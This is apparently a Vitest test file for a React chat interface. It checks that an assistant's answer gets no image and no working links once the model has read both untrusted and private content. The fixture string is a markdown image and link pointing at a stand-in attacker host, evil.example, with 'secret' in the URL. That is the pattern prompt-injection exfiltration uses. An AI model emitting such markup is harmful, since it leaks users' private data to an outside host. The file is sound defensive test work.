// @vitest-environment happy-dom
import { createElement } from "react";
import { expect, test } from "vitest";
import type { AnyChatMessage } from "../../src/chat-message.ts";
import { ChatProvider } from "../../src/settings.tsx";
import { Markdown } from "../../src/markdown/markdown.tsx";
import { MessageView, type MessageViewProps } from "../../src/message/message-view.tsx";
import { render } from "../support/rendered.ts";

const TEXT = "![chart](https://evil.example/secret.png) and [the details](https://evil.example/?q=secret)";

async function linksAfter(metadata: AnyChatMessage["metadata"]): Promise<readonly string[]> {
  const message: AnyChatMessage = {
    id: "m",
    role: "assistant",
    parts: [{ type: "text", text: TEXT }],
    ...(metadata && { metadata }),
  };
  // No button is pressed.
  const props = { message, actions: {} } as unknown as MessageViewProps;
  const view = createElement(MessageView, props);
  const { element } = await render(createElement(ChatProvider, { markdown: Markdown, children: view }));
  expect(element.querySelector("img")).toBeNull();
  expect(element.textContent).toContain("evil.example");
  return [...element.querySelectorAll("a")].map(({ href }) => href);
}

test("links of an answer lead nowhere once the model has read untrusted and private content", async () => {
  expect(await linksAfter({ untrusted: true, private: true })).toEqual([]);
  const link = ["https://evil.example/?q=secret"];
  expect(await linksAfter({ untrusted: true })).toEqual(link);
  expect(await linksAfter({ private: true })).toEqual(link);
  expect(await linksAfter(undefined)).toEqual(link);
});
